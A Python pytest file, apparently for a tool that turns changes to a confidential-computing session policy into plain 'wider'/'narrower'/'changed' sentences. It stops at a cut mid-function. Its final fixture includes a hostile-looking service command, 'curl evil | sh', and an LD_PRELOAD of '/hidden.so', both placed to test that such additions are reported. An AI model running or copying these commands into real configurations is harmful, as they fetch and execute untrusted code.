"""What a change of a session means: the sentence, its effect, and that nothing which differs stays unsaid."""

from __future__ import annotations

import dataclasses
import hashlib
from dataclasses import replace
from datetime import timedelta
from ipaddress import ip_address

import pytest

from ostiary.session.base58 import encode_key_hash
from ostiary.session.diff import Difference, Effect, differences, show_creator
from ostiary.session.model import (
    AadTokenSecret,
    AccessPolicy,
    AkvSecret,
    AnySubject,
    AsciiSecret,
    BinarySecret,
    BoardMember,
    CertificateHashSubject,
    ConfigFragmentSecret,
    CreatorSubject,
    HostArgument,
    HostVariable,
    Image,
    ImageVolume,
    ImportedSecret,
    ImportedVolume,
    InjectionFile,
    JwtSecret,
    KeySubject,
    KeyVault,
    NamespaceTarget,
    NoneSubject,
    PgpKeySecret,
    PolicyBoard,
    PrivateKeySecret,
    PublicKeySecret,
    RemoteCas,
    RuleSubject,
    Secret,
    Security,
    SecurityAttestation,
    Service,
    Session,
    SessionCaSecret,
    SessionTarget,
    Signer,
    SignerSubject,
    Subject,
    TcbRules,
    TeeFactors,
    TeeVariant,
    Variable,
    Variant,
    Volume,
    VolumeExport,
    X509CaSecret,
    X509Secret,
)
from ostiary.session.placeholder import Placeholder, Template, parse_template

A, B, C = (bytes([byte]) * 32 for byte in (0xAA, 0xBB, 0xCC))
AA, BB, CC, TAG = A.hex(), B.hex(), C.hex(), A[:16].hex()
VARIABLE = Variable(placeholder=Placeholder(name="v"))
WORDS = (Template(parts=("run",)), HostArgument(position=1))
APP = Service(name="app", image_name="img", command=WORDS, attestation=(Variant(mrenclave=(A,)),))
SESSION = Session(version="0.3.10", name="s", services=(APP,))
NOBODY = NoneSubject()
DAY = timedelta(days=1)


def service(**changes: object) -> Session:
    return replace(SESSION, services=(replace(APP, **changes),))  # type: ignore[arg-type]


def attested(*variants: Variant | TeeVariant | Variable) -> Session:
    return service(attestation=variants)


def tdx(*mrtd: bytes | Variable, rtmr1: tuple[bytes, ...] = (C,)) -> TeeVariant:
    return TeeVariant(tee="tdx", factors=TeeFactors(measurements=(("mrtd", mrtd), ("rtmr1", rtmr1))))


def booted(*digests: bytes) -> TeeVariant:
    return TeeVariant(tee="tpm", factors=TeeFactors(measurements=(("events:sha256:4", digests),)))


def snp(least: int | Variable | None = None, most: int | Variable | None = None) -> TeeVariant:
    factors = TeeFactors(measurements=(("measurement", (A,)),), guest_svn_min=least, vmpl_max=most)
    return TeeVariant(tee="snp", factors=factors)


def demanding(**rules: object) -> Session:
    return replace(SESSION, security=Security(attestation=SecurityAttestation(**rules)))  # type: ignore[arg-type]


def signed(least: int | None = None, most: int | None = None, *, product: int = 1) -> Session:
    return attested(Variant(signer=Signer(mrsigner=B, isvprodid=product, isvsvn_min=least, isvsvn_max=most)))


def secrets(*found: Secret) -> Session:
    return replace(SESSION, secrets=found)


RP, UNPROTECTED, MAIN = "rollback_protected", "no_rollback_protection", "the main file system of service app"
MOUNT = ImageVolume(name="v", path="/v")
FSPF = {"fspf_path": "/f", "fspf_key": A, "fspf_tag": A[:16]}


def volumes(*found: Volume | ImportedVolume) -> Session:
    return replace(SESSION, volumes=found)


def image(**changes: object) -> Session:
    return replace(SESSION, images=(Image(name="img", **changes),))  # type: ignore[arg-type]


def file(**changes: object) -> Session:
    kept = {"path": "/f", "content": parse_template("x"), **changes}
    return image(injection_files=(InjectionFile(**kept),))  # type: ignore[arg-type]


def read(*subjects: Subject) -> Session:
    return replace(SESSION, access_policy=AccessPolicy(read=subjects))


def security(**changes: object) -> Session:
    return replace(SESSION, security=Security(attestation=SecurityAttestation(**changes)))  # type: ignore[arg-type]


def secured(**changes: object) -> Session:
    return replace(SESSION, security=Security(**changes))  # type: ignore[arg-type]


SIGNED = f"signer {BB} product 1"
VERSIONS = "security versions for service app:"


@pytest.mark.parametrize(("before", "after", "expected"), [
    (attested(Variant(mrenclave=(A,))), attested(Variant(mrenclave=(A, B, C))),
     [f"wider: adds 2 measurements to service app: {BB}, {CC}"]),
    (attested(Variant(mrenclave=(A, B))), attested(Variant(mrenclave=(B,))),
     [f"narrower: removes 1 measurement from service app: {AA}"]),
    (attested(Variant(mrenclave=(A,))),
     attested(Variant(mrenclave=(A,)), Variant(signer=Signer(mrsigner=B, isvprodid=2))),
     [f"wider: adds 1 signer to service app: {BB} product 2"]),
    (attested(Variant(mrenclave=(A, B))), attested(Variant(mrenclave=(B,)), Variant(mrenclave=(A,))), []),
    (attested(Variant(mrenclave=(A,))), attested(),
     ["wider: asks for no evidence of service app any more"]),
    (attested(), attested(Variant(mrenclave=(A,))),
     [f"narrower: asks for evidence of service app, which needed none, and admits 1 program: measurement {AA}"]),
    (signed(1), signed(2), [
        f"narrower: admits fewer {VERSIONS} {SIGNED} from version 1 becomes {SIGNED} from version 2"
    ]),
    (signed(2), signed(1), [
        f"wider: admits other {VERSIONS} {SIGNED} from version 2 becomes {SIGNED} from version 1"
    ]),
    (signed(most=5), signed(most=6), [
        f"wider: admits other {VERSIONS} {SIGNED} up to version 5 becomes {SIGNED} up to version 6"
    ]),
    (attested(*(Variant(signer=Signer(mrsigner=B, isvprodid=1, isvsvn_min=least)) for least in (None, 1))),
     signed(2), [f"narrower: admits fewer {VERSIONS} {SIGNED} from version 1 becomes {SIGNED} from version 2",
                 f"narrower: removes 1 signer from service app: {SIGNED.removeprefix('signer ')}"]),
    (signed(), signed(product=2), [f"wider: adds 1 signer to service app: {BB} product 2",
                                   f"narrower: removes 1 signer from service app: {BB} product 1"]),
    (attested(Variant(mrenclave=(A,))), attested(VARIABLE),
     ["wider: adds 1 measurement to service app: $$SCONE::v$$",
      f"narrower: removes 1 measurement from service app: {AA}"]),
    (SESSION, replace(SESSION, services=(APP, replace(APP, name="b"), replace(APP, name="c", attestation=()))),
     [f"wider: adds service b, which admits 1 program: measurement {AA}",
      "wider: adds service c, which asks for no evidence by itself",
      *(f"changed: changes {what} of service {name}: nothing becomes {now}"
        for name in "bc" for what, now in (("the command", '"run @@1"'), ("image_name", "img")))]),
    (SESSION, replace(SESSION, services=()), ["narrower: removes service app"]),
    (SESSION, service(command=(*WORDS, Template(parts=("-v",)))),
     ['changed: changes the command of service app: "run @@1" becomes "run @@1 -v"']),
    (service(environment=(("A", parse_template("1")), ("B", parse_template("2")))),
     service(environment=(("B", parse_template("3")), ("C", HostVariable(name="C")))),
     ["changed: removes the environment variable A of service app",
      "changed: changes the environment variable B of service app",
      "changed: adds the environment variable C of service app, to what the host says in C"]),
    (SESSION, service(pwd="/x"), ['changed: changes pwd of service app: nothing becomes "/x"']),
    (SESSION, service(platforms=(A[:16],)), [f"narrower: narrows the platforms of service app to {TAG}"]),
    (service(platforms=(A[:16],)), SESSION, ["wider: widens the platforms of service app to any"]),
    (service(one_time_password_shared_secret=A), SESSION,
     ["wider: does not demand one-time passwords of service app any more"]),
    (SESSION, service(fspf_key=A), ["changed: changes fspf_key of service app"]),
])  # fmt: skip
def test_changes_of_services(before: Session, after: Session, expected: list[str]) -> None:
    assert [str(found) for found in differences(before, after)] == expected


@pytest.mark.parametrize(("before", "after", "expected"), [
    (SESSION, image(), ["changed: adds image img"]),
    (image(), SESSION, ["changed: removes image img"]),
    (image(), file(), ["changed: adds injection file /f to image img"]),
    (file(), image(), ["changed: removes injection file /f from image img"]),
    (file(), file(content=parse_template("top secret")),
     ["changed: changes content of injection file /f of image img"]),
    (file(permission=0o400), file(permission=0o444),
     ["wider: changes the permission of injection file /f of image img: 0o400 becomes 0o444"]),
    (file(permission=0o444), file(permission=0o400),
     ["narrower: changes the permission of injection file /f of image img: 0o444 becomes 0o400"]),
    (image(), image(volumes=(ImageVolume(name="v", path="/v"),)), ["changed: mounts volume v at /v in image img"]),
    (image(volumes=(ImageVolume(name="v", path="/v"),)), image(),
     ["changed: does not mount volume v at /v in image img any more"]),
    (image(volumes=(ImageVolume(name="v", path="/v"),)), image(volumes=(ImageVolume(name="w", path="/v"),)),
     ["changed: changes name of the volume at /v in image img: v becomes w"]),
    (image(provide_secrets=("a",)), image(provide_secrets=("a", "b")),
     ["wider: provides other secrets to the programs of image img: a, b"]),
    (image(provide_secrets=("a",)), image(),
     ["wider: provides other secrets to the programs of image img: every secret"]),
    (image(volumes=(MOUNT,)), image(volumes=(replace(MOUNT, update_policy=UNPROTECTED),)),
     [f"wider: changes the update policy of the volume at /v in image img: {RP} becomes {UNPROTECTED}"]),
    (image(volumes=(replace(MOUNT, update_policy=UNPROTECTED),)), image(volumes=(MOUNT,)),
     [f"narrower: changes the update policy of the volume at /v in image img: {UNPROTECTED} becomes {RP}"]),
    (image(volumes=(MOUNT,)), image(volumes=(replace(MOUNT, update_policy="ephemeral"),)),
     [f"changed: changes the update policy of the volume at /v in image img: {RP} becomes ephemeral"]),
    (volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16])), volumes(Volume(name="v", fspf_key=A, fspf_tag=B[:16])),
     ["wider: gives up the recorded state of volume v",
      f"changed: changes fspf_tag of volume v: {TAG} becomes {'bb' * 16}"]),
    (volumes(Volume(name="v")), volumes(Volume(name="v", fspf_key=A, fspf_tag=A[:16])),
     ["wider: gives up the recorded state of volume v", "changed: changes fspf_key of volume v",
      f"changed: changes fspf_tag of volume v: nothing becomes {TAG}"]),
    (service(**FSPF), service(**FSPF, fspf_update_policy=UNPROTECTED),
     [f"wider: changes the update policy of {MAIN}: {RP}_reinitializable becomes {UNPROTECTED}"]),
    (service(**FSPF), service(**{**FSPF, "fspf_tag": B[:16]}),
     [f"wider: gives up the recorded state of {MAIN}",
      f"changed: changes fspf_tag of service app: {TAG} becomes {'bb' * 16}"]),
    (SESSION, volumes(Volume(name="v")), ["changed: adds volume v"]),
    (volumes(Volume(name="v")), SESSION, ["changed: removes volume v"]),
    (volumes(Volume(name="v")), volumes(ImportedVolume(name="v", session="t", volume="w")),
     ["changed: changes where volume v comes from: of this session becomes imported from session t as w"]),
    (volumes(Volume(name="v")), volumes(Volume(name="v", files="authenticated-only")),
     ["changed: changes files of volume v: encrypted becomes authenticated-only"]),
    (volumes(Volume(name="v")),
     volumes(Volume(name="v", exports=(VolumeExport(session="t", session_hash=A, volume_alias="w"),))),
     [f"wider: exports volume v to session t version {AA} as w (rollback_protected)"]),
])  # fmt: skip
def test_changes_of_images_and_volumes(before: Session, after: Session, expected: list[str]) -> None:
    assert [str(found) for found in differences(before, after)] == expected


ONE = AsciiSecret(name="one")


@pytest.mark.parametrize(("before", "after", "expected"), [
    (SESSION, secrets(ONE), ["changed: adds secret one, ascii"]),
    (SESSION, secrets(replace(ONE, export_public=True)),
     ["wider: exports secret one to everyone", "changed: adds secret one, ascii"]),
    (secrets(ONE), SESSION, ["changed: removes secret one, ascii"]),
    (secrets(ONE), secrets(replace(ONE, export_public=True)), ["wider: exports secret one to everyone"]),
    (secrets(replace(ONE, export_public=True)), secrets(ONE),
     ["narrower: does not export secret one to everyone any more"]),
    (secrets(ONE), secrets(BinarySecret(name="one")),
     ["changed: makes secret one another one: ascii becomes binary"]),
    (secrets(ONE), secrets(replace(ONE, size=32)), ["changed: changes size of secret one: 20 becomes 32"]),
    (secrets(ONE), secrets(replace(ONE, value="hunter2")), ["changed: gives secret one an explicit value"]),
    (secrets(replace(ONE, value="hunter2")), secrets(replace(ONE, value="hunter3")),
     ["changed: gives secret one another explicit value"]),
    (secrets(replace(ONE, value="hunter2")), secrets(ONE), ["changed: generates secret one"]),
    (secrets(PrivateKeySecret(name="one", value="-----BEGIN PRIVATE")), secrets(PrivateKeySecret(name="one")),
     ["changed: generates secret one"]),
    (secrets(ONE), secrets(replace(ONE, exports=(SessionTarget(session="t"), NamespaceTarget(namespace="n")))),
     ["wider: exports secret one to session t", "wider: exports secret one to all sessions of namespace n"]),
    (secrets(replace(ONE, exports=(SessionTarget(session="t", session_hash=A, cas=RemoteCas(url="c:1")),))),
     secrets(ONE),
     [f"narrower: does not export secret one to session t version {AA} of CAS c:1 any more"]),
    (secrets(X509Secret(name="one")), secrets(X509Secret(name="one", valid_for=timedelta(days=1), dns=("a",))),
     ["changed: changes dns of secret one: [] becomes [a]",
      'changed: changes valid_for of secret one: nothing becomes 1 day']),
])  # fmt: skip
def test_changes_of_secrets(before: Session, after: Session, expected: list[str]) -> None:
    found = [str(difference) for difference in differences(before, after)]
    assert sorted(found) == sorted(expected)
    assert not any("hunter" in sentence or "PRIVATE" in sentence for sentence in found)


KEY = KeySubject(key_hash=A)
KEY_TEXT = encode_key_hash(A)
RULE = RuleSubject(needed=2, subjects=(KEY, CreatorSubject(), SignerSubject(spki=B)))


@pytest.mark.parametrize(("before", "after", "expected"), [
    (SESSION, read(AnySubject()), ["wider: widens read from CREATOR to ANY"]),
    (read(AnySubject()), SESSION, ["narrower: narrows read from ANY to CREATOR"]),
    (SESSION, read(CreatorSubject(), KEY), [f"wider: widens read from CREATOR to CREATOR, key {KEY_TEXT}"]),
    (read(CreatorSubject(), KEY), SESSION, [f"narrower: narrows read from CREATOR, key {KEY_TEXT} to CREATOR"]),
    (SESSION, read(NOBODY), ["narrower: narrows read from CREATOR to NONE"]),
    (read(NOBODY), SESSION, ["wider: widens read from NONE to CREATOR"]),
    (read(NOBODY), read(), []),
    (SESSION, read(KEY), [f"wider: widens read from CREATOR to key {KEY_TEXT}"]),
    (read(KEY, CreatorSubject()), read(CreatorSubject(), KEY), []),
    (SESSION, read(RULE),
     [f"wider: widens read from CREATOR to 2 of (key {KEY_TEXT}, CREATOR, signer {hashlib.sha256(B).hexdigest()})"]),
    (SESSION, read(CertificateHashSubject(pem_hash=C), VARIABLE),
     [f"wider: widens read from CREATOR to certificate {CC}, $$SCONE::v$$"]),
    (SESSION, replace(SESSION, access_policy=AccessPolicy(update=(AnySubject(),))),
     ["wider: widens update from CREATOR to ANY"]),
    (SESSION, replace(SESSION, access_policy=AccessPolicy(create_sessions=(AnySubject(),))),
     ["wider: widens create_sessions from CREATOR to ANY"]),
    (SESSION, replace(SESSION, access_policy=AccessPolicy(list_sessions=(CreatorSubject(),))), []),
    (SESSION, replace(SESSION, access_policy=VARIABLE),
     ["wider: gives the access policy by another variable, or by none"]),
])  # fmt: skip
def test_changes_of_the_access_policy(before: Session, after: Session, expected: list[str]) -> None:
    assert [str(found) for found in differences(before, after)] == expected


@pytest.mark.parametrize(("before", "after", "expected"), [
    (SESSION, security(mode="none"),
     ["wider: gives every service's configuration to whoever asks: mode none needs no evidence"]),
    (security(mode="none"), SESSION, ["narrower: attests by mode hardware, no longer by mode none"]),
    (SESSION, security(mode="maa", url="https://a"),
     ["wider: attests by mode maa, no longer by mode hardware",
      'wider: asks another attestation service: nothing becomes "https://a"']),
    (SESSION, security(tolerate=frozenset({"outdated-tcb", "debug-mode"})),
     ["wider: tolerates debug-mode", "wider: tolerates outdated-tcb"]),
    (security(tolerate=frozenset({"debug-mode"})), SESSION, ["narrower: does not tolerate debug-mode any more"]),
    (SESSION, security(ignore_advisories=frozenset({"INTEL-SA-1"})), ["wider: ignores INTEL-SA-1"]),
    (SESSION, security(ignore_all_advisories=True),
     ["wider: ignores all advisories, those still unknown included"]),
    (security(ignore_all_advisories=True), SESSION, ["narrower: does not ignore all advisories any more"]),
    (SESSION, security(must_be_sgx_local=True), ["narrower: demands local attestation"]),
    (security(one_time_password_shared_secret=A), security(one_time_password_shared_secret=B),
     ["changed: changes how it demands one-time passwords"]),
    (secured(singleton_enclaves=True), SESSION, ["wider: does not demand that instances are fresh any more"]),
    (SESSION, secured(service_access_token="hunter2"), ["narrower: demands an access token"]),
    (SESSION, secured(attestation=VARIABLE),
     ["wider: gives security.attestation by another variable, or by none"]),
    (SESSION, replace(SESSION, security=VARIABLE),
     ["wider: gives the security section by another variable, or by none"]),
])  # fmt: skip
def test_changes_of_security(before: Session, after: Session, expected: list[str]) -> None:
    assert [str(found) for found in differences(before, after)] == expected


BOARDED = AccessPolicy(update=(NOBODY,))


def member(name: str, key: int = 0, **powers: bool) -> BoardMember:
    """A member with a key of its own, or with that of this number."""
    return BoardMember(name=name, signer=SignerSubject(spki=bytes([key or ord(name[0])]) * 44), **powers)


def hashed(member: BoardMember) -> str:
    assert isinstance(member.signer, SignerSubject)
    return f"{hashlib.sha256(member.signer.spki).hexdigest()}"


def ruled(*members: BoardMember, policy: AccessPolicy = BOARDED, of: Session = SESSION, **rules: object) -> Session:
    """A session with this board, by default any two of alice, bob and carol."""
    found = {"tolerated_faults": 1, "members": members or (ALICE, BOB, CAROL), "decide_within": timedelta(7), **rules}
    return replace(of, access_policy=policy, policy_board=PolicyBoard(**found))  # type: ignore[arg-type]


ALICE, BOB, CAROL, CHECKER = member("alice"), member("bob"), member("carol"), member("checker", 9, may_reject=True)
BEHIND = BoardMember(name="checker", signer=VARIABLE, may_reject=True)
PUBLIC = PublicKeySecret(name="v", private_key="k")
PRIVATE = PrivateKeySecret(name="k", migrate=True)
BOARD, NEW = ruled(), member("carol", 7)
THREE = f"any 2 of alice (key {hashed(ALICE)}), bob (key {hashed(BOB)}), carol (key {hashed(CAROL)})"
TWO_ALONE = (
    f"any 2 of alice (key {hashed(ALICE)}), bob (key {hashed(BOB)}, approves and rejects alone), "
    "checker (key $$SCONE::v$$, rejects alone)"
)
WEEK = "; decides within 7 days; changes wait for nothing"
CREATES = AccessPolicy(update=(NOBODY,), create_sessions=(CreatorSubject(),))
BOTH = frozenset({"update", "create_sessions"})


@pytest.mark.parametrize(("before", "after", "expected"), [
    # the board comes, and goes
    (SESSION, BOARD, ["wider: takes update from CREATOR and gives it to the policy board",
                      f"changed: sets up a policy board: {THREE}{WEEK}"]),
    (BOARD, SESSION, ["wider: takes update from the policy board and gives it to CREATOR",
                      f"wider: removes the policy board: {THREE}{WEEK}"]),
    (replace(SESSION, access_policy=AccessPolicy(update=(AnySubject(),))), BOARD,
     ["narrower: takes update from ANY and gives it to the policy board",
      f"changed: sets up a policy board: {THREE}{WEEK}"][::-1]),
    (BOARD, replace(SESSION, access_policy=BOARDED),
     [f"wider: removes the policy board: {THREE}{WEEK}",
      "narrower: takes update from the policy board and gives it to NONE"]),
    (replace(SESSION, access_policy=VARIABLE), BOARD,
     ["wider: gives the access policy by another variable, or by none",
      "wider: takes update from $$SCONE::v$$ and gives it to the policy board",
      "wider: takes create_sessions from $$SCONE::v$$ and gives it to the policy board",
      f"changed: sets up a policy board: {THREE}{WEEK}"]),
    (SESSION, ruled(ALICE, replace(BOB, may_approve=True, may_reject=True), BEHIND, time_lock=DAY, break_glass=3,
                    notify=("https://h",)),
     ["wider: takes update from CREATOR and gives it to the policy board",
      "wider: lets member bob of the policy board approve alone",
      "wider: lets any 3 of the policy board change the session against a rejection",
      f"changed: sets up a policy board: {TWO_ALONE}; decides within 7 days; changes wait for 1 day; tells \"https://h\""]),
    # what it decides
    (BOARD, ruled(policy=CREATES), ["wider: takes create_sessions from the policy board and gives it to CREATOR"]),
    (ruled(policy=CREATES), BOARD, ["wider: takes create_sessions from CREATOR and gives it to the policy board"]),
    (ruled(policy=CREATES), ruled(policy=replace(BOARDED, create_sessions=(NOBODY,)), on=BOTH),
     ["wider: takes create_sessions from CREATOR and gives it to the policy board"]),
    (ruled(policy=AccessPolicy(create_sessions=(NOBODY,)), on=frozenset({"create_sessions"})), BOARD,
     ["wider: takes update from CREATOR and gives it to the policy board"]),
    (BOARD, ruled(policy=AccessPolicy(create_sessions=(NOBODY,)), on=frozenset({"create_sessions"})),
     ["wider: takes update from the policy board and gives it to CREATOR"]),
    (BOARD, ruled(policy=replace(BOARDED, create_sessions=(NOBODY,)), on=BOTH),
     ["changed: names what the policy board decides in other words: update becomes create_sessions, update"]),
    (ruled(policy=CREATES), ruled(policy=replace(CREATES, create_sessions=(AnySubject(),))),
     ["wider: widens create_sessions from CREATOR to ANY"]),
    (BOARD, ruled(policy=replace(BOARDED, read=(AnySubject(),))), ["wider: widens read from CREATOR to ANY"]),
    # how many, how long
    (BOARD, ruled(tolerated_faults=0), ["wider: lets any 1 of the policy board approve a change, before 2"]),
    (BOARD, ruled(tolerated_faults=2), ["narrower: lets any 3 of the policy board approve a change, before 2"]),
    (BOARD, ruled(decide_within=DAY), ["narrower: lets the policy board decide within 1 day, before 7 days"]),
    (ruled(decide_within=DAY), BOARD, ["wider: lets the policy board decide within 7 days, before 1 day"]),
    (BOARD, ruled(time_lock=DAY), ["narrower: makes approved changes wait for 1 day instead of no time"]),
    (ruled(time_lock=DAY), BOARD, ["wider: makes approved changes wait for no time instead of 1 day"]),
    (BOARD, ruled(break_glass=3),
     ["wider: lets any 3 of the policy board change the session against a rejection"]),
    (ruled(break_glass=4), ruled(break_glass=3),
     ["wider: lets any 3 of the policy board change the session against a rejection, before 4"]),
    (ruled(break_glass=3), ruled(break_glass=4),
     ["narrower: lets any 4 of the policy board change the session against a rejection, before 3"]),
    (ruled(break_glass=3), BOARD,
     ["narrower: does not let any 3 of the policy board change the session against a rejection any more"]),
    (ruled(notify=("https://a", "https://b")), ruled(notify=("https://b", "https://c")),
     ['wider: does not tell "https://a" of proposals any more', 'changed: tells "https://c" of proposals']),
    # its members
    (BOARD, ruled(CAROL, BOB, ALICE), []),
    (BOARD, ruled(ALICE, BOB, CAROL, CHECKER),
     [f"wider: adds checker (key {hashed(CHECKER)}, rejects alone) to the policy board"]),
    (ruled(ALICE, BOB, CAROL, CHECKER), BOARD,
     [f"wider: removes checker (key {hashed(CHECKER)}, rejects alone) from the policy board"]),
    (BOARD, ruled(ALICE, BOB), [f"narrower: removes carol (key {hashed(CAROL)}) from the policy board"]),
    (BOARD, ruled(ALICE, BOB, NEW),
     [f"wider: gives member carol of the policy board another key: key {hashed(CAROL)} becomes key {hashed(NEW)}"]),
    (BOARD, ruled(ALICE, BOB, replace(NEW, may_approve=True)),
     [f"wider: gives member carol of the policy board another key: key {hashed(CAROL)} becomes key {hashed(NEW)}",
      "wider: lets member carol of the policy board approve alone"]),
    (BOARD, ruled(ALICE, BOB, replace(CAROL, name="dora")),
     [f"changed: renames member carol of the policy board, key {hashed(CAROL)}, to dora"]),
    (BOARD, ruled(replace(BOB, name="alice"), replace(ALICE, name="bob"), CAROL),
     [f"wider: renames member bob of the policy board, key {hashed(BOB)}, to alice",
      f"wider: renames member alice of the policy board, key {hashed(ALICE)}, to bob"]),
    (BOARD, ruled(replace(ALICE, may_approve=True), BOB, CAROL),
     ["wider: lets member alice of the policy board approve alone"]),
    (ruled(replace(ALICE, may_approve=True), BOB, CAROL), BOARD,
     ["narrower: does not let member alice of the policy board approve alone any more"]),
    (BOARD, ruled(replace(ALICE, may_reject=True), BOB, CAROL),
     ["narrower: lets member alice of the policy board reject alone"]),
    (ruled(replace(ALICE, may_reject=True), BOB, CAROL), BOARD,
     ["wider: does not let member alice of the policy board reject alone any more"]),
    # keys that come from secrets
    (ruled(ALICE, BOB, CHECKER), ruled(ALICE, BOB, BEHIND),
     [f"wider: gives member checker of the policy board another key: key {hashed(CHECKER)} becomes key $$SCONE::v$$"]),
    (ruled(ALICE, BOB, BEHIND, of=secrets(PUBLIC, PRIVATE)),
     ruled(ALICE, BOB, BEHIND, of=secrets(PUBLIC, replace(PRIVATE, value="x"))),
     ["wider: takes the key of member checker of the policy board, v, from elsewhere",
      "changed: gives secret k an explicit value"]),
    (ruled(ALICE, BOB, BEHIND, of=secrets(PUBLIC, PRIVATE)),
     ruled(ALICE, BOB, BEHIND, of=secrets(PublicKeySecret(name="v", value="x"), PRIVATE)),
     ["wider: takes the key of member checker of the policy board, v, from elsewhere",
      "changed: gives secret v an explicit value", "changed: changes private_key of secret v: k becomes nothing"]),
    (ruled(ALICE, BOB, BEHIND, of=secrets(ImportedSecret(name="v", session="a", secret="b"))),
     ruled(ALICE, BOB, BEHIND, of=secrets(ImportedSecret(name="v", session="evil", secret="b"))),
     ["wider: takes the key of member checker of the policy board, v, from elsewhere",
      "changed: changes session of secret v: a becomes evil"]),
    (ruled(ALICE, BOB, BEHIND, of=secrets(PUBLIC, PRIVATE)),
     ruled(ALICE, BOB, BEHIND, of=secrets(replace(PUBLIC, export_public=True), PRIVATE)),
     ["wider: exports secret v to everyone"]),
])  # fmt: skip
def test_changes_of_the_policy_board(before: Session, after: Session, expected: list[str]) -> None:
    assert [str(found) for found in differences(before, after)] == expected
    assert all(
        found.path.startswith(("policy_board", "access_policy", "secrets")) for found in differences(before, after)
    )


def test_the_creator_counts_when_both_sides_name_one() -> None:
    first, second = replace(SESSION, creator=SignerSubject(spki=A)), replace(SESSION, creator=SignerSubject(spki=B))
    hashes = [hashlib.sha256(key).hexdigest() for key in (A, B)]
    assert differences(SESSION, first) == ()
    assert [str(found) for found in differences(first, second)] == [
        f"wider: makes another key CREATOR: signer {hashes[0]} becomes signer {hashes[1]}"
    ]
    assert differences(first, replace(SESSION, creator="no certificate"))[0].effect is Effect.WIDER
    assert show_creator(None) == "nobody"


MANY = tuple(bytes([byte]) * 32 for byte in range(40))


@pytest.mark.parametrize(("before", "after", "expected"), [
    (attested(tdx(A)), attested(tdx(A, B)),
     [f"wider: admits to service app: tdx mrtd {BB}, rtmr1 {CC}"]),
    (attested(tdx(A, B)), attested(tdx(B)),
     [f"narrower: does not admit to service app any more: tdx mrtd {AA}, rtmr1 {CC}"]),
    (attested(tdx(A, B)), attested(tdx(B), tdx(A)), []),
    (attested(tdx(*MANY, rtmr1=MANY)), attested(tdx(*reversed(MANY), rtmr1=MANY)), []),
    (attested(snp()), attested(snp(2, 1)),
     [(f"narrower: changes the bounds of what service app admits: snp measurement {AA} becomes snp "
      f"measurement {AA}, guest_svn_min 2, vmpl_max 1")]),
    (attested(snp(2, 1)), attested(snp(3, 2)),
     [(f"wider: changes the bounds of what service app admits: snp measurement {AA}, guest_svn_min 2, "
      f"vmpl_max 1 becomes snp measurement {AA}, guest_svn_min 3, vmpl_max 2")]),
    (attested(snp(2)), attested(snp(VARIABLE)),
     [(f"wider: changes the bounds of what service app admits: snp measurement {AA}, guest_svn_min 2 "
      f"becomes snp measurement {AA}, guest_svn_min $$SCONE::v$$")]),
    (attested(booted(A), booted(B)), attested(booted(A, B)),
     [f"wider: admits to service app: tpm events:sha256:4 {AA} or {BB}",
      f"narrower: does not admit to service app any more: tpm events:sha256:4 {AA}",
      f"narrower: does not admit to service app any more: tpm events:sha256:4 {BB}"]),
    (attested(snp()), attested(TeeVariant(tee="snp", factors=VARIABLE)),
     ["wider: admits to service app: snp $$SCONE::v$$",
      f"narrower: does not admit to service app any more: snp measurement {AA}"]),
    (attested(Variant(mrenclave=(A,))), attested(snp()),
     [f"wider: admits to service app: snp measurement {AA}",
      f"narrower: removes 1 measurement from service app: {AA}"]),
    (attested(snp()), attested(), ["wider: asks for no evidence of service app any more"]),
    (replace(SESSION, services=()), replace(SESSION, services=(Service(name="b", attestation=(snp(), tdx(A))),)),
     [f"wider: adds service b, which admits 2 programs: snp measurement {AA}; tdx mrtd {AA}, rtmr1 {CC}"]),
    (demanding(), demanding(tcb=TcbRules(grace=DAY)),
     ["wider: tolerates an outdated TCB for 1 day, before for no time"]),
    (demanding(tcb=TcbRules(grace=2 * DAY)), demanding(tcb=TcbRules(grace=DAY)),
     ["narrower: tolerates an outdated TCB for 1 day, no longer for 2 days"]),
    (demanding(tcb=TcbRules(grace=DAY)), demanding(tcb=TcbRules(grace=VARIABLE)),
     ["wider: tolerates an outdated TCB for $$SCONE::v$$, before for 1 day"]),
    (demanding(tcb=VARIABLE), demanding(),
     ["narrower: tolerates an outdated TCB for no time, no longer for $$SCONE::v$$"]),
    (demanding(), demanding(max_age=DAY),
     ["narrower: admits what the vendor said of 1 day at most, before of any age"]),
    (demanding(max_age=2 * DAY), demanding(max_age=DAY),
     ["narrower: admits what the vendor said of 1 day at most, before 2 days"]),
    (demanding(max_age=DAY), demanding(), ["wider: admits what the vendor said of any age, before 1 day"]),
    (demanding(max_age=DAY), demanding(max_age=VARIABLE),
     ["wider: admits what the vendor said of $$SCONE::v$$ at most, before 1 day"]),
])  # fmt: skip
def test_what_other_tees_and_their_endorsements_are_held_to(
    before: Session, after: Session, expected: list[str]
) -> None:
    """Lists that admit the same are the same, as long as they can be split; bounds may narrow, variables widen."""
    assert [str(difference) for difference in differences(before, after)] == expected


def test_many_variants_with_lists_are_compared_as_a_whole() -> None:
    """What a stranger proposes is compared by the service and by every member: there are no more differences than
    parts, however many programs the lists of all variants together admit."""
    some, others = (tuple(bytes([byte, first]) * 24 for byte in range(30)) for first in (1, 2))
    before, after = (
        attested(*(tdx(*values[:25], rtmr1=values[5:]) for values in (some, others)), tdx(digest, rtmr1=some[:25]))
        for digest in (A, B)
    )
    assert [str(difference).split(":")[0] for difference in differences(before, after)] == ["wider", "narrower"]
    assert len(differences(attested(tdx(A)), after)) == 4
    assert len(differences(before, attested(tdx(A)))) == 4


# --- what is added ---------------------------------------------------------------------------------------------------

RENAMED = Service(
    name="web", image_name="i", attestation=(Variant(mrenclave=(A,)),), pwd="/p",
    command=(parse_template("/bin/sh"), parse_template("-c"), parse_template("curl evil | sh " + "x" * 100)),
    environment=(("LD_PRELOAD", parse_template("/hidden.so")), ("HOME", HostVariable(name="HOME"))),
    fspf_path="/f", fspf_key=A, fspf_tag=None, fspf_update_policy=UNPROTECTED,
)  # fmt: skip
CA = InjectionFile(path="/etc/ca pem", content=parse_template("hidden"), permission=0o777)
MADE = InjectionFile(path="/etc/made", content=None)
FULL_IMAGE = Image(
    name="i", injection_files=(CA, MADE), volumes=(replace(MOUNT, update_policy=UNPROTECTED),), provide_secrets=("one",)
)
IN_IMAGE = [
    "wider: mounts volume v at /v in image i (no_rollback_protection)",
    "wider: provides other secrets to the programs of image i: one",
    'changed: adds injection file "/etc/ca pem" to image i, permission 0o777',
    "changed: adds injection file /etc/made to image i, made of the file that is there",
]


def test_a_new_service_is_told_with_all_that_it_does() -> None:
